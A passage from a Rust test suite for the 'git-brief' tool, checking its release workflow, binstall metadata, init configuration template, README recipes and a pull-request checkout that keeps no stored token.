    let releasing: Vec<(String, Yaml)> =
        jobs(RELEASE, &doc).into_iter().filter(|(_, job)| find_step(job, uploads).is_some()).collect();
    assert_eq!(releasing.len(), 1, "{RELEASE}: one job uploads with `gh release upload`");
    let (name, job) = &releasing[0];
    assert_eq!(permission(&doc, job, "contents"), "write", "{RELEASE}: job `{name}` needs contents: write");
    let (_, download) = find_step(job, |s| uses_action(s, "actions/download-artifact"))
        .unwrap_or_else(|| panic!("{RELEASE}: job `{name}` downloads the archives first"));
    let dir = str_of(&download["with"], "path");
    let pattern = str_of(&download["with"], "pattern");
    let (_, upload) = find_step(job, uploads).unwrap();
    let line = run(upload).lines().find(|l| l.contains("gh release upload")).unwrap();
    let files = line.split_whitespace().find(|w| w.contains('*')).expect("a glob of the archives");
    for target in RELEASE_TARGETS {
        let asset = binstall_asset(target);
        assert!(glob_matches(pattern, &asset), "{RELEASE}: download pattern {pattern} misses {asset}");
        assert!(glob_matches(files, &format!("{dir}/{asset}")), "{RELEASE}: `{files}` misses {dir}/{asset}");
    }
}

#[test]
fn release_publishes_the_crate_with_a_secret_token() {
    let doc = load(RELEASE);
    let publishing: Vec<(String, Yaml)> = jobs(RELEASE, &doc)
        .into_iter()
        .filter(|(_, job)| find_step(job, |s| run(s) == "cargo publish --locked").is_some())
        .collect();
    assert_eq!(publishing.len(), 1, "{RELEASE}: one job runs `cargo publish --locked`");
    let (_, step) = find_step(&publishing[0].1, |s| run(s) == "cargo publish --locked").unwrap();
    assert_eq!(str_of(&step["env"], "CARGO_REGISTRY_TOKEN"), "${{ secrets.CARGO_REGISTRY_TOKEN }}");
}

#[test]
fn release_archives_match_the_binstall_metadata() {
    let manifest: toml::Table = toml::from_str(&read("Cargo.toml")).expect("Cargo.toml parses");
    assert_eq!(manifest["package"]["name"].as_str(), Some("git-brief"), "binstall_asset assumes the name");
    let Some(binstall) = manifest["package"].get("metadata").and_then(|m| m.get("binstall")) else {
        eprintln!(
            "note: Cargo.toml has no [package.metadata.binstall] yet; checked against the planned names"
        );
        return;
    };
    let field = |table: &toml::Value, key: &str| {
        table.get(key).and_then(|v| v.as_str()).unwrap_or("").replace(' ', "")
    };
    assert!(
        field(binstall, "pkg-url").ends_with("/releases/download/v{version}/{name}-{target}{archive-suffix}"),
        "Cargo.toml: binstall pkg-url must name the release's archives: {}",
        field(binstall, "pkg-url")
    );
    assert_eq!(
        field(binstall, "bin-dir"),
        "{bin}{binary-ext}",
        "Cargo.toml: the binary is at the archive root"
    );
    assert_eq!(field(binstall, "pkg-fmt"), "tgz", "Cargo.toml: .tar.gz archives are binstall's tgz");
    let windows = binstall.get("overrides").and_then(|o| o.get("x86_64-pc-windows-msvc"));
    assert_eq!(
        windows.map(|w| field(w, "pkg-fmt")).as_deref(),
        Some("zip"),
        "Cargo.toml: [package.metadata.binstall.overrides.x86_64-pc-windows-msvc] pkg-fmt = \"zip\""
    );
}

// ---------------------------------------------------------------- init's configuration

/// The configuration with every commented-out setting (`#key = …`,
/// `#[[rewrite]]`) switched on; explanations (`# …`) stay comments.
fn with_every_setting_on(text: &str) -> String {
    text.lines()
        .map(|line| match line.strip_prefix('#') {
            Some(rest) if rest.starts_with(|c: char| c.is_ascii_alphabetic() || c == '[') => rest,
            _ => line,
        })
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn the_init_config_parses_unchanged() {
    let config = Config::parse(&read(INIT_CONFIG), Path::new(INIT_CONFIG))
        .unwrap_or_else(|e| panic!("{INIT_CONFIG} must parse as written: {e}"));
    assert!(config.brief.title.is_none(), "{INIT_CONFIG}: `title` is left to the repository's name");
    assert!(config.brief.timezone.is_some(), "{INIT_CONFIG}: `timezone` is set");
}

#[test]
fn the_init_config_documents_every_setting() {
    let config = Config::parse(&with_every_setting_on(&read(INIT_CONFIG)), Path::new(INIT_CONFIG))
        .unwrap_or_else(|e| {
            panic!("{INIT_CONFIG}: a commented-out example does not parse once switched on: {e}")
        });
    // Exhaustive patterns: a key added to config.rs fails to compile here
    // until the template documents it.
    let Config {
        brief,
        areas,
        issues,
        classify,
        rewrite,
        templates,
        tracker,
        alert,
        email,
        kpi,
        prometheus,
        source: _,
    } = config;
    let PrometheusSection { url: prometheus_url, timeout: prometheus_timeout } = prometheus;
    let any_kpi = |f: fn(&KpiEntry) -> bool| kpi.iter().any(f);
    let EmailSection { from, to } = email;
    let AlertSection { markers } = alert;
    let BriefSection { title, timezone, max_items, paths, intro } = brief;
    let IssuesSection { url, keys } = issues;
    let ClassifySection { bots, fix_streak, blocked_markers, types, labels } = classify;
    let TrackerSection { provider, files, timeout } = tracker;
    let TemplatesSection { markdown, html, text } = templates;
    for (section, key, documented) in [
        ("[brief]", "title", title.is_some()),
        ("[brief]", "timezone", timezone.is_some()),
        ("[brief]", "max_items", max_items.is_some()),
        ("[brief]", "paths", paths.is_some()),
        ("[brief]", "intro", intro.is_some()),
        ("[areas]", "auth", !areas.is_empty()),
        ("[issues]", "url", url.is_some()),
        ("[issues]", "keys", keys.is_some()),
        ("[classify]", "bots", bots.is_some()),
        ("[classify]", "fix_streak", fix_streak.is_some()),
        ("[classify]", "blocked_markers", blocked_markers.is_some()),
        ("[classify]", "types", types.is_some()),
        ("[classify]", "labels", labels.is_some()),
        ("[tracker]", "provider", provider.is_some()),
        ("[tracker]", "files", files.is_some()),
        ("[tracker]", "timeout", timeout.is_some()),
        ("[alert]", "markers", markers.is_some()),
        ("[email]", "from", from.is_some()),
        ("[email]", "to", to.is_some()),
        ("[[kpi]]", "label", !kpi.is_empty()),
        ("[[kpi]]", "id", any_kpi(|k| k.id.is_some())),
        ("[[kpi]]", "prometheus", any_kpi(|k| k.prometheus.is_some())),
        ("[[kpi]]", "file", any_kpi(|k| k.file.is_some())),
        ("[[kpi]]", "format", any_kpi(|k| k.format.is_some())),
        ("[[kpi]]", "better", any_kpi(|k| k.better.is_some())),
        ("[prometheus]", "url", prometheus_url.is_some()),
        ("[prometheus]", "timeout", prometheus_timeout.is_some()),
        ("[[rewrite]]", "pattern", !rewrite.is_empty()),
        ("[templates]", "markdown", markdown.is_some()),
        ("[templates]", "html", html.is_some()),
        ("[templates]", "text", text.is_some()),
    ] {
        assert!(
            documented,
            "{INIT_CONFIG}: `{key}` of {section} is missing; set it, or show it as `#{key} = …` with an explanation"
        );
    }
}

/// The README's recipes are the files `init` writes, so that what a team
/// copies from the README and what `init` gives it never drift apart.
#[test]
fn the_readme_recipes_are_the_init_files_verbatim() {
    let readme = read("README.md");
    for path in [
        "templates/init/brief.yml",
        "templates/init/pr-brief.yml",
        "templates/init/alert.yml",
        "templates/init/org-brief.yml",
        "templates/init/gitlab-ci.yml",
    ] {
        let block = format!("```yaml\n{}\n```", read(path).trim_end());
        assert!(
            readme.contains(&block),
            "README.md must show {path} exactly as it is (copy it into the recipe)"
        );
    }
}

/// The README's posting recipe is the steps `init --slack --teams --email` adds.
#[test]
fn the_readme_posting_recipe_is_the_init_steps_verbatim() {
    let readme = read("README.md");
    let steps: Vec<String> = ["slack", "teams", "email"]
        .iter()
        .map(|name| read(&format!("templates/init/post-{name}.yml")).trim_end().to_string())
        .collect();
    assert!(
        readme.contains(&format!("```yaml\n{}\n```", steps.join("\n\n"))),
        "README.md must show the posting steps as init writes them"
    );
}

/// The pull-request workflow reads the pull request's own `.git-brief.toml`:
/// its checkout keeps no token in `.git/config` for that file to reach.
#[test]
fn the_pull_request_checkout_keeps_no_token() {
    for path in ["templates/init/pr-brief.yml", ".github/workflows/pr-brief.yml"] {
        let workflow = read(path);
        let checkout = workflow.split("uses: actions/checkout").nth(1).expect("a checkout step");
        let step = checkout.split("\n      - ").next().unwrap_or(checkout);
        assert!(
            step.contains("persist-credentials: false"),
            "{path}: the checkout step keeps its token:\n{step}"
        );
    }
}
